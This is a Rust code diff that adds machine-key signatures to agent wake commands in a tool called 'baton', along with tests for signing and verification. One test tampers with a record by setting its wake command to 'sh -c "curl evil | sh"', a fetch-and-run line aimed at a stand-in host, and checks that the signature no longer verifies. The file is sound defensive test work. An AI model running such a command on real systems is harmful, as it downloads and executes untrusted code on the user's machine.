@@ -12,6 +12,7 @@ use serde::{Deserialize, Serialize};
 
 use crate::error::{Error, Result};
 use crate::names::{self, NameKind};
+use crate::secret::machine_key::MachineKey;
 use crate::store::versioned::{self, Durability, Versioned};
 use crate::store::{Collection, Document, Store, Wait};
 use crate::text::{self, LineField};
@@ -40,6 +41,12 @@ pub struct AgentRecord {
     /// written before hosts were recorded: it runs wherever the work is handed over.
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub host: Option<String>,
+    /// The signature, by the key of the machine that registered it, of the wake command,
+    /// its host and the agent's name ([`AgentRecord::is_wake_signed_by`]): on a store several
+    /// machines share, anyone holding its credentials can write this record, but only that
+    /// machine can sign it, and a hub runs only the wake commands it signed (SPEC 16).
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub wake_signature: Option<String>,
     /// The agent clients wired to this identity by `baton setup`.
     #[serde(default)]
     pub clients: Vec<String>,
@@ -63,10 +70,36 @@ fn default_schema() -> u32 {
 }
 
 impl AgentRecord {
-    /// Sets the wake command, and the machine it runs on: this one (SPEC section 16).
-    pub fn set_wake(&mut self, wake: Option<Vec<String>>) {
-        self.host = wake.as_ref().and_then(|_| crate::process::this_host());
-        self.wake = wake;
+    /// Sets the wake command, and the machine it runs on: this one, whose `key` signs it
+    /// (SPEC section 16).
+    pub fn set_wake(&mut self, wake: Vec<String>, key: &MachineKey) {
+        self.host = crate::process::this_host();
+        self.wake = Some(wake);
+        self.wake_signature = Some(key.sign(&self.signed_wake()));
+    }
+
+    /// Removes the wake command, with its host and signature.
+    pub fn remove_wake(&mut self) {
+        self.wake = None;
+        self.host = None;
+        self.wake_signature = None;
+    }
+
+    /// Whether the wake command, as it stands with its host and the agent's name, was signed
+    /// with `key`: registered on the machine that holds it.
+    pub fn is_wake_signed_by(&self, key: &MachineKey) -> bool {
+        self.wake.is_some()
+            && self
+                .wake_signature
+                .as_deref()
+                .is_some_and(|signature| key.verifies(&self.signed_wake(), signature))
+    }
+
+    /// What a wake command's signature covers, in one unambiguous encoding.
+    fn signed_wake(&self) -> Vec<u8> {
+        let signed = ("baton wake command 1", &self.name, &self.host, &self.wake);
+        // Strings and lists of strings always encode.
+        serde_json::to_vec(&signed).unwrap_or_default()
     }
 
     pub fn new(name: &str, now: Timestamp) -> Self {
@@ -77,6 +110,7 @@ impl AgentRecord {
             skills: Vec::new(),
             wake: None,
             host: None,
+            wake_signature: None,
             clients: Vec::new(),
             created_at: now,
             last_seen: now,
@@ -219,11 +253,12 @@ impl Profile {
 }
 
 /// What `agent add` does to an agent's wake command.
-#[derive(Debug, Clone, PartialEq, Eq)]
+#[derive(Debug, Clone)]
 pub enum WakeCommandChange {
     Keep,
-    /// Sets it to this program and its arguments (`--wake -- CMD ARGS…`).
-    Set(Vec<String>),
+    /// Sets it to this program and its arguments (`--wake -- CMD ARGS…`), signed with the
+    /// key of this machine, where it will run.
+    Set(Vec<String>, std::sync::Arc<MachineKey>),
     /// Removes it (`--no-wake-command`).
     Remove,
 }
@@ -239,7 +274,7 @@ pub fn add(
     profile: &Profile,
     wake: WakeCommandChange,
 ) -> Result<AgentRecord> {
-    if let WakeCommandChange::Set(argv) = &wake {
+    if let WakeCommandChange::Set(argv, _) = &wake {
         if argv.first().is_none_or(|program| program.trim().is_empty()) {
             return Err(Error::invalid_with_hint(
                 "--wake needs a command after `--`",
@@ -252,8 +287,8 @@ pub fn add(
         profile.apply(record)?;
         match wake {
             WakeCommandChange::Keep => {}
-            WakeCommandChange::Set(argv) => record.set_wake(Some(argv)),
-            WakeCommandChange::Remove => record.set_wake(None),
+            WakeCommandChange::Set(argv, key) => record.set_wake(argv, &key),
+            WakeCommandChange::Remove => record.remove_wake(),
         }
         Ok(record.clone())
     })
@@ -332,6 +367,12 @@ mod tests {
         text.parse().unwrap()
     }
 
+    /// The key of the machine whose home is at `root`.
+    fn key_at(root: &Path) -> std::sync::Arc<MachineKey> {
+        let key = MachineKey::load_or_make(&Home::new(root.to_path_buf()).machine_key_file());
+        std::sync::Arc::new(key.unwrap())
+    }
+
     /// A wake program given by an absolute path on this system.
     const ABSOLUTE_CODEX: &str = if cfg!(windows) {
         r"C:\bin\codex.exe"
@@ -346,13 +387,17 @@ mod tests {
         let now = at("2026-11-29T12:00:00Z");
         let argv = |words: &[&str]| words.iter().map(|word| word.to_string()).collect();
         let profile = Profile::default();
+        let key = key_at(root.path());
         // (the change asked for, the wake command after it; None where it is refused)
         let cases: Vec<(WakeCommandChange, Option<Option<Vec<String>>>)> = vec![
-            (WakeCommandChange::Set(argv(&[])), None),
-            (WakeCommandChange::Set(argv(&[" "])), None),
-            (WakeCommandChange::Set(argv(&["bin/codex", "exec"])), None),
+            (WakeCommandChange::Set(argv(&[]), key.clone()), None),
+            (WakeCommandChange::Set(argv(&[" "]), key.clone()), None),
             (
-                WakeCommandChange::Set(argv(&["codex", "exec"])),
+                WakeCommandChange::Set(argv(&["bin/codex", "exec"]), key.clone()),
+                None,
+            ),
+            (
+                WakeCommandChange::Set(argv(&["codex", "exec"]), key.clone()),
                 Some(Some(argv(&["codex", "exec"]))),
             ),
             (
@@ -360,7 +405,7 @@ mod tests {
                 Some(Some(argv(&["codex", "exec"]))),
             ),
             (
-                WakeCommandChange::Set(argv(&[ABSOLUTE_CODEX])),
+                WakeCommandChange::Set(argv(&[ABSOLUTE_CODEX]), key.clone()),
                 Some(Some(argv(&[ABSOLUTE_CODEX]))),
             ),
             (WakeCommandChange::Remove, Some(None)),
@@ -388,14 +433,17 @@ mod tests {
         let home = store_at(root.path());
         let now = at("2026-11-29T12:00:00Z");
         let profile = Profile::default();
-        let set = WakeCommandChange::Set(vec!["codex".into(), "exec".into()]);
+        let set = WakeCommandChange::Set(vec!["codex".into(), "exec".into()], key_at(root.path()));
         let added = add(&home, "codex", now, &profile, set).unwrap();
         assert!(added.host.is_some(), "this machine has a name");
         assert_eq!(added.host, crate::process::this_host());
         let kept = add(&home, "codex", now, &profile, WakeCommandChange::Keep).unwrap();
         assert_eq!(kept.host, added.host, "a profile change keeps it");
         let removed = add(&home, "codex", now, &profile, WakeCommandChange::Remove).unwrap();
-        assert_eq!((removed.wake, removed.host), (None, None));
+        assert_eq!(
+            (removed.wake, removed.host, removed.wake_signature),
+            (None, None, None)
+        );
         // A record from before hosts were recorded reads as one with none.
         let old: AgentRecord = serde_json::from_value(serde_json::json!({
             "name": "codex", "wake": ["codex"],
@@ -404,6 +452,49 @@ mod tests {
         .unwrap();
         assert_eq!(old.host, None);
         assert!(!serde_json::to_string(&old).unwrap().contains("host"));
+    }
+
+    #[test]
+    fn a_wake_command_is_signed_by_the_machine_that_registered_it_and_nothing_else() {
+        let root = tempfile::tempdir().unwrap();
+        let home = store_at(root.path());
+        let now = at("2026-11-29T12:00:00Z");
+        let key = key_at(root.path());
+        let set = WakeCommandChange::Set(vec!["codex".into(), "exec".into()], key.clone());
+        let added = add(&home, "codex", now, &Profile::default(), set).unwrap();
+        assert!(added.is_wake_signed_by(&key));
+        let other = tempfile::tempdir().unwrap();
+        let elsewhere = MachineKey::load_or_make(&other.path().join("machine.key")).unwrap();
+        assert!(
+            !added.is_wake_signed_by(&elsewhere),
+            "another machine's key"
+        );
+        // Whatever another writer of the record changes, the signature no longer holds.
+        let mut changed = added.clone();
+        changed.wake = Some(vec!["sh".into(), "-c".into(), "curl evil | sh".into()]);
+        assert!(!changed.is_wake_signed_by(&key), "another command");
+        let mut moved = added.clone();
+        moved.host = Some("another-machine".into());
+        assert!(!moved.is_wake_signed_by(&key), "another host");
+        let mut renamed = added.clone();
+        renamed.name = "claude".into();
+        assert!(
+            !renamed.is_wake_signed_by(&key),
+            "another agent's signed command"
+        );
+        let mut unsigned = added.clone();
+        unsigned.wake_signature = None;
+        assert!(!unsigned.is_wake_signed_by(&key));
+        // Kept through a profile change, and written into the record as it is stored.
+        let kept = add(
+            &home,
+            "codex",
+            now,
+            &Profile::default(),
+            WakeCommandChange::Keep,
+        )
+        .unwrap();
+        assert!(kept.is_wake_signed_by(&key));
     }
 
     #[test]
@@ -431,7 +522,7 @@ mod tests {
             strengths: Some("parsers".into()),
             skills: Some(vec!["rust".into()]),
         };
-        let wake = WakeCommandChange::Set(vec!["codex".into(), "exec".into()]);
+        let wake = WakeCommandChange::Set(vec!["codex".into(), "exec".into()], key_at(root.path()));
         let added = add(&home, "codex", start, &profile, wake).unwrap();
         let path = home.home().agent_file("codex");
         let later = at("2026-11-29T12:05:00Z");
